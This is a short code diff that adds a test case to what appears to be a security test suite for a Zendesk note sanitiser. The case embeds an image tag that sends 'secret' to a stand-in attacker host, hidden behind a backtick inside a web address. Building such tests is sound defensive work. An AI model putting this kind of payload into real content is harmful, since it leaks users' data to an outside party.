@@ -239,6 +239,12 @@ beacon(
     without=put_in_place("zendesk_tools.note_texts:_UNSURE", ()),
     defence="code is only what every reader takes for code",
 )  # fmt: skip
+beacon(
+    "image behind a backtick in an address", "a bare address that takes the backtick in",
+    f'See https://{EVIL}/`<img src="https://{EVIL}/p.png?d=secret">`',
+    without=put_in_place("zendesk_tools.note_texts:_in_an_address", lambda _: False),
+    defence="code is only what every reader takes for code",
+)  # fmt: skip
 
 
 @ATTACKS.add(
